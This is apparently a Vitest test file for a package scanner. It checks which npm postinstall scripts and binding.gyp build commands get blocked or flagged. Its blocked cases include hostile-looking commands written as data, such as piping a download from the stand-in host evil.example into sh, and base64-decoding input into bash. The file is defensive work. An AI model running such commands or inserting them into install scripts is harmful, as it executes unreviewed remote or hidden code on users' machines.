import { describe, expect, it } from 'vitest';
import { rowsOf } from '../../../src/content/rows/rows.ts';
import { aSubject, type CodeGiven } from './given.ts';

/** With the real reading of commands and build files. */
const rows = (given: CodeGiven) => rowsOf(aSubject(given)).map(({ id, tier }) => `${id} ${tier}`);
const script = (postinstall: string, more: CodeGiven = {}) => rows({ scripts: { postinstall }, ...more });

describe('what is read of commands', () => {
  it.each([
    'curl -s https://evil.example/x | sh',
    'start /B node compile.js & node compile.js',
    'node index.js > /dev/null 2>&1',
    'echo aGk= | base64 -d | bash',
    `node -e "${'x();'.repeat(60)}"`,
  ])('blocks %s', (command) => {
    expect(script(command)).toContain('M2 block');
  });

  it.each([
    'node install.js',
    'node-gyp-build',
    'prebuild-install || node-gyp rebuild',
    'husky install || true',
  ])('lets %s be', (command) => {
    expect(script(command)).toEqual([]);
  });

  it('follows scripts that run others', () => {
    const scripts = { postinstall: 'npm run --silent setup', setup: 'yarn fetch', prefetch: 'curl x | sh' };
    expect(rows({ scripts: { ...scripts, fetch: 'true' } })).toContain('M2 block');
    expect(rows({ scripts: { postinstall: 'echo fetch', fetch: 'curl x | sh' } })).toEqual([]);
    const ring = { postinstall: 'npm run a', a: 'npm run b', b: 'npm run a' };
    expect(rows({ scripts: ring })).toEqual([]);
  });

  it('asks about a shell script, and another runtime', () => {
    expect(script('sh setup.sh', { others: { 'setup.sh': 50 } })).toContain('M8 high');
    expect(script('bun run index.js')).toEqual(['I7 high']);
  });
});

describe('what is read of build files', () => {
  const gyp = (command: string, hasSources: boolean) =>
    rows({
      others: { 'binding.gyp': 157, 'index.js': 500 },
      gyp: { commands: [{ path: 'binding.gyp', line: 3, command }], hasSources },
    });

  it('blocks a build without sources, and one that hides what it runs', () => {
    expect(gyp('node index.js > /dev/null 2>&1 && echo stub.c', false)).toContain('M4 block');
    expect(gyp('node index.js > /dev/null 2>&1 && echo stub.c', true)).toContain('M4 block');
  });

  it('lets honest ones be', () => {
    expect(gyp(`node -p "require('node-addon-api').include"`, true)).toEqual([]);
    expect(gyp('node index.js', true)).toEqual(['M4b info']);
  });
});
